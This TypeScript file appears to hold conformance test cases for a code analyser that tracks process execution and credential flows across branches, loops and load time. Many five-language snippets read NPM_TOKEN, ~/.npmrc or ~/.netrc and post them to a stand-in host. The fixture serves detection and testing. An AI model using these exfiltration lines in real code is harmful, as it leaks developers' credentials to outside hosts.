import type { ConformanceCase } from "./harness.ts";

/** What branches, loops and the moment of running do to data. */
export const CONTROL_CASES: ConformanceCase[] = [
  {
    name: "either of two values",
    programs: {
      javascript: `const p = process.platform === "win32" ? "whoami" : "id"; require("child_process").execSync(p); fetch(maybe ? process.env.NPM_TOKEN : "x");`,
      python: `import os, sys, requests\np = "whoami" if sys.platform == "win32" else "id"\nos.system(p)\nrequests.get(os.environ["NPM_TOKEN"] if maybe else "x")`,
      shell:
        'if [ "$x" = y ]; then p=whoami; else p=id; fi; sh -c "$p"; curl -d "${maybe:+$NPM_TOKEN}" https://h.example',
      php: `$p = PHP_OS == "Linux" ? "whoami" : "id"; system($p); wp_remote_post("https://h.example", $maybe ? getenv("NPM_TOKEN") : "x");`,
      ruby: `p = win ? "whoami" : "id"\nsystem(p)\nRestClient.post("https://h.example", maybe ? ENV["NPM_TOKEN"] : "x")`,
    },
    capabilities: [{ capability: "execute.process" }],
    flows: [{ from: "read.credential", to: "network.send", source: "NPM_TOKEN" }],
  },
  {
    name: "a branch that is not taken is read too",
    programs: {
      javascript: `if (false) { require("child_process").execSync("id"); }`,
      python: `import os\nif False:\n    os.system("id")`,
      shell: `if false; then sh -c id; fi`,
      php: `if (false) { system("id"); }`,
      ruby: `if false\n  system("id")\nend`,
    },
    capabilities: [{ capability: "execute.process", target: "id" }],
  },
  {
    name: "a value that a branch may change",
    programs: {
      javascript: `let t = "x"; if (someday) { t = process.env.NPM_TOKEN; } fetch("https://h.example", { body: t });`,
      python: `import os, requests\nt = "x"\nif someday:\n    t = os.environ["NPM_TOKEN"]\nrequests.post("https://h.example", data=t)`,
      shell: `t=x; if someday; then t=$NPM_TOKEN; fi; curl -d "$t" https://h.example`,
      php: `$t = "x"; if ($someday) { $t = getenv("NPM_TOKEN"); } wp_remote_post("https://h.example", $t);`,
      ruby: `t = "x"\nt = ENV["NPM_TOKEN"] if someday\nRestClient.post("https://h.example", t)`,
    },
    flows: [{ from: "read.credential", to: "network.send", destination: "https://h.example" }],
  },
  {
    name: "an error that is swallowed hides nothing",
    programs: {
      javascript: `try { require("child_process").execSync("id"); } catch {} `,
      python: `import os\ntry:\n    os.system("id")\nexcept Exception:\n    pass`,
      shell: `{ sh -c id; } 2>/dev/null || true`,
      php: `try { @system("id"); } catch (Exception $e) {}`,
      ruby: `begin\n  system("id")\nrescue StandardError\nend`,
    },
    capabilities: [{ capability: "execute.process", target: "id" }],
  },
  {
    name: "what is done when something fails",
    programs: {
      javascript: `let t; try { t = process.env.NPM_TOKEN; work(); } catch (e) { fetch("https://h.example", { body: t }); }`,
      python: `import os, requests\ntry:\n    t = os.environ["NPM_TOKEN"]\n    work()\nexcept Exception as e:\n    requests.post("https://h.example", data=t)`,
      shell: `t=$NPM_TOKEN\nwork || curl -d "$t" https://h.example`,
      php: `try { $t = getenv("NPM_TOKEN"); work(); } catch (Exception $e) { wp_remote_post("https://h.example", $t); }`,
      ruby: `begin\n  t = ENV["NPM_TOKEN"]\n  work\nrescue => e\n  RestClient.post("https://h.example", t)\nend`,
    },
    flows: [{ from: "read.credential", to: "network.send" }],
  },
  {
    name: "a loop over the names of files",
    programs: {
      javascript: `const fs = require("fs"); for (const f of [".npmrc", ".netrc"]) { fetch("https://h.example", { body: fs.readFileSync(process.env.HOME + "/" + f) }); }`,
      python: `import os, requests\nfor f in [".npmrc", ".netrc"]:\n    requests.post("https://h.example", data=open(os.environ["HOME"] + "/" + f).read())`,
      shell: `for f in .npmrc .netrc; do curl -d "@$HOME/$f" https://h.example; done`,
      php: `foreach ([".npmrc", ".netrc"] as $f) { wp_remote_post("https://h.example", file_get_contents(getenv("HOME") . "/" . $f)); }`,
      ruby: `[".npmrc", ".netrc"].each do |f|\n  RestClient.post("https://h.example", File.read(ENV["HOME"] + "/" + f))\nend`,
    },
    flows: [
      { from: "read.credential", to: "network.send", source: "~/.npmrc" },
      { from: "read.credential", to: "network.send", source: "~/.netrc" },
    ],
  },
  {
    name: "a loop that collects",
    programs: {
      javascript: `const all = {}; for (const k of ["NPM_TOKEN"]) all[k] = process.env[k]; fetch("https://h.example", { body: JSON.stringify(all) });`,
      python: `import os, requests\nall = {}\nfor k in ["NPM_TOKEN"]:\n    all[k] = os.environ[k]\nrequests.post("https://h.example", json=all)`,
      shell:
        'all=; for k in NPM_TOKEN; do all="$all ${!k}"; done; curl -d "$all" https://h.example',
      php: `$all = []; foreach (["NPM_TOKEN"] as $k) { $all[$k] = getenv($k); } wp_remote_post("https://h.example", json_encode($all));`,
      ruby: `all = {}\n["NPM_TOKEN"].each { |k| all[k] = ENV[k] }\nRestClient.post("https://h.example", all.to_json)`,
    },
    flows: [{ from: "read.credential", to: "network.send", source: "NPM_TOKEN" }],
  },
  {
    name: "the same, as an expression",
    programs: {
      javascript: `const all = ["NPM_TOKEN"].map((k) => process.env[k]); fetch("https://h.example", { body: JSON.stringify(all) });`,
      python: `import os, requests\nall = [os.environ[k] for k in ["NPM_TOKEN"]]\nrequests.post("https://h.example", json=all)`,
      php: `$all = array_map(fn($k) => getenv($k), ["NPM_TOKEN"]); wp_remote_post("https://h.example", json_encode($all));`,
      ruby: `all = ["NPM_TOKEN"].map { |k| ENV[k] }\nRestClient.post("https://h.example", all.to_json)`,
    },
    flows: [{ from: "read.credential", to: "network.send", source: "NPM_TOKEN" }],
  },
  {
    name: "what runs when the file is loaded",
    programs: {
      javascript: `require("child_process").execSync("id");`,
      python: `import os\nos.system("id")`,
      shell: `sh -c id`,
      php: `system("id");`,
      ruby: `system("id")`,
    },
    capabilities: [{ capability: "execute.process", atLoad: true }],
  },
  {
    name: "what runs only when somebody calls it",
    programs: {
      javascript: `module.exports = function go() { require("child_process").execSync("id"); };`,
      python: `import os\ndef go():\n    os.system("id")`,
      shell: `go() { sh -c id; }`,
      php: `function go() { system("id"); }`,
      ruby: `def go\n  system("id")\nend`,
    },
    capabilities: [{ capability: "execute.process", atLoad: false }],
  },
  {
    name: "a function that the file itself calls runs at load",
    programs: {
      javascript: `function go() { require("child_process").execSync("id"); } (function main() { go(); })();`,
      python: `import os\ndef go():\n    os.system("id")\ndef main():\n    go()\nif __name__ == "__main__":\n    main()`,
      shell: `go() { sh -c id; }\nmain() { go; }\nmain "$@"`,
      php: `function go() { system("id"); } function main() { go(); } main();`,
      ruby: `def go\n  system("id")\nend\ndef main\n  go\nend\nmain if __FILE__ == $0`,
    },
    capabilities: [{ capability: "execute.process", atLoad: true }],
  },
  {
    name: "recursion comes to an end",
    programs: {
      javascript: `function f(n) { require("child_process").execSync("id"); return f(n + 1); } f(0);`,
      python: `import os\ndef f(n):\n    os.system("id")\n    return f(n + 1)\nf(0)`,
      shell: `f() { sh -c id; f $(($1 + 1)); }\nf 0`,
      php: `function f($n) { system("id"); return f($n + 1); } f(0);`,
      ruby: `def f(n)\n  system("id")\n  f(n + 1)\nend\nf(0)`,
    },
    capabilities: [{ capability: "execute.process", target: "id" }],
  },
  {
    name: "a loop without an end comes to an end",
    programs: {
      javascript: `while (true) { work(); if (done()) break; } require("child_process").execSync("id");`,
      python: `import os\nwhile True:\n    work()\n    if done():\n        break\nos.system("id")`,
      shell: `while true; do work; if finished; then break; fi; done\nsh -c id`,
      php: `while (true) { work(); if (done()) break; } system("id");`,
      ruby: `while true\n  work\n  break if finished\nend\nsystem("id")`,
    },
    capabilities: [{ capability: "execute.process", target: "id" }],
  },
];
